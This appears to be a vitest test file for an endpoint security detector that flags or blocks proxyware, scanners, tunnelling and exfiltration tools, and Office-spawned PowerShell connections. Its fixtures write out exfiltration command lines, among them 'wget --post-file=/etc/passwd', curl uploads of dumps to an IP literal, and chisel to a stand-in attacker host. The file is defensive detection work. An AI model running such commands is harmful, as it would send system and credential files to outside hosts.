import { describe, expect, it } from 'vitest';
import { evaluateConnect } from '../../../policy/detectors/connect.ts';
import { hasUploadFlags } from '../../../policy/detectors/process-signals.ts';
import { WED_02, WED_10, facts, learnedState, proc, snap } from './fixtures.ts';

type Row = {
  name: string;
  facts: ReturnType<typeof facts>;
  now?: number;
  known?: string[];
  patch?: Parameters<typeof snap>[0];
  want: Array<{ detector: string; action: string }>;
};

const rows: Row[] = [
  { name: 'ordinary curl to a known host: nothing', facts: facts(proc('curl'), 'api.example.com:443'), known: ['example.com'], want: [] },
  {
    name: 'proxyware by process name blocks',
    facts: facts(proc('honeygain'), 'x.example.com:443'),
    known: ['example.com'],
    want: [{ detector: 'an0081.proxyware', action: 'block' }],
  },
  {
    name: 'proxyware by provider domain blocks (renamed exe)',
    facts: facts(proc('Cli', { cmdline: '/app/Cli start accept --token x' }), 'api.traffmonetizer.com:443'),
    want: [{ detector: 'an0081.proxyware', action: 'block' }],
  },
  {
    name: 'proxyware image on the docker command line',
    facts: facts(proc('docker', { cmdline: 'docker run -d honeygain/honeygain -tou-accept' }), 'registry-1.docker.io:443'),
    known: ['docker.io'],
    want: [{ detector: 'an0081.proxyware', action: 'block' }],
  },
  {
    name: 'scanner via parent proxychains4',
    facts: facts(proc('nmap', { parentName: 'proxychains4' }), '203.0.113.10:22'),
    want: [{ detector: 'an0081.scanner-tool', action: 'block' }],
  },
  { name: 'nc alone only flags', facts: facts(proc('nc'), 'db.example.com:5432'), known: ['example.com'], want: [{ detector: 'an0081.scanner-tool', action: 'flag' }] },
  {
    name: 'expected scan source skips scanner-tool',
    facts: facts(proc('nmap'), '10.0.0.1:22'),
    patch: (c) => c.expectedScanSources.push({ host: 'ws1', process: ['nmap'] }),
    want: [],
  },
  {
    name: 'exception skips the named detector',
    facts: facts(proc('nmap'), '10.0.0.1:22'),
    patch: (c) => c.exceptions.push({ process: ['nmap'], detectors: ['an0081.scanner-tool'] }),
    want: [],
  },
  {
    name: 'tunnel tool alone blocks',
    facts: facts(proc('chisel'), 'vps.attacker.example:443'),
    want: [{ detector: 'an0080.exfil-tool', action: 'block' }],
  },
  {
    name: 'rclone to a storage domain blocks',
    facts: facts(proc('rclone'), 'g.api.mega.co.nz:443'),
    want: [{ detector: 'an0080.exfil-tool', action: 'block' }],
  },
  {
    name: 'rclone to an ordinary known host only flags',
    facts: facts(proc('rclone'), 'backup.example.net:443'),
    known: ['example.net'],
    want: [{ detector: 'an0080.exfil-tool', action: 'flag' }],
  },
  {
    name: 'rclone to an approved upload destination: nothing',
    facts: facts(proc('rclone'), 'g.api.mega.co.nz:443'),
    patch: (c) => c.approvedUploadDestinations.push('*.mega.co.nz'),
    want: [],
  },
  {
    name: 'curl -T to an IP literal blocks',
    facts: facts(proc('curl', { cmdline: 'curl -T dump.7z https://45.0.2.18/up' }), '45.0.2.18:443'),
    want: [{ detector: 'an0080.exfil-tool', action: 'block' }],
  },
  {
    name: 'lineage to a known destination only flags (severity below high)',
    facts: facts(proc('powershell.exe', { parentName: 'winword.exe' }), 'content.dropboxapi.com:443'),
    known: ['dropboxapi.com'],
    want: [{ detector: 'an0080.lineage', action: 'flag' }],
  },
  {
    name: 'lineage to a rare destination: kill becomes block at connect',
    facts: facts(proc('powershell.exe', { parentName: 'excel.exe' }), 'files.rarehost.example:443'),
    want: [{ detector: 'an0080.lineage', action: 'block' }],
  },
  {
    name: 'lineage disabled: nothing',
    facts: facts(proc('powershell.exe', { parentName: 'excel.exe' }), 'files.rarehost.example:443'),
    patch: (c) => {
      c.detection.detectors['an0080.lineage'] = { enabled: false, action: 'kill', corroborate: false };
    },
    want: [],
  },
  {
    name: 'off-hours alone never blocks a flag-level lineage',
    facts: facts(proc('powershell.exe', { parentName: 'winword.exe' }), 'content.dropboxapi.com:443'),
    known: ['dropboxapi.com'],
    now: WED_02,
    want: [{ detector: 'an0080.lineage', action: 'flag' }],
  },
];

describe('evaluateConnect', () => {
  it.each(rows)('$name', (row) => {
    const now = row.now ?? WED_10;
    const got = evaluateConnect(row.facts, learnedState(now, row.known ?? []), snap(row.patch), now, 'f1');
    expect(got.map((f) => ({ detector: f.detector, action: f.action }))).toEqual(row.want);
    for (const f of got) {
      expect(f.flowIds).toEqual(['f1']);
      expect(f.reasons.length).toBeGreaterThan(0);
    }
  });

  it('a daemon-account lineage is not counted twice as context', () => {
    const p = proc('python3', { user: 'www-data', loginuid: 4294967295, parentName: 'sh' });
    const [f] = evaluateConnect(facts(p, 'api.example.com:443'), learnedState(WED_10, ['example.com']), snap(), WED_10);
    expect(f?.detector).toBe('an0080.lineage');
    expect(f?.severity).toBe('low'); // medium base, -1 long-known, no context step
    expect(f?.action).toBe('flag');
  });
});

describe('upload command lines', () => {
  it.each([
    ['curl', 'curl -T dump.7z https://x/up', true],
    ['curl', 'curl -s --data-binary @/tmp/a https://x/', true],
    ['curl', 'curl -fsS https://x/health', false],
    ['wget', 'wget -T 30 https://x/file.iso', false], // -T is wget's timeout
    ['wget', 'wget --post-file=/etc/passwd https://x/', true],
    ['powershell.exe', 'powershell Invoke-RestMethod -Uri https://x -Method Put -InFile c:\\a.zip', true],
  ])('%s: %s -> %s', (tool, cmd, want) => {
    expect(hasUploadFlags(cmd, tool)).toBe(want);
  });
});
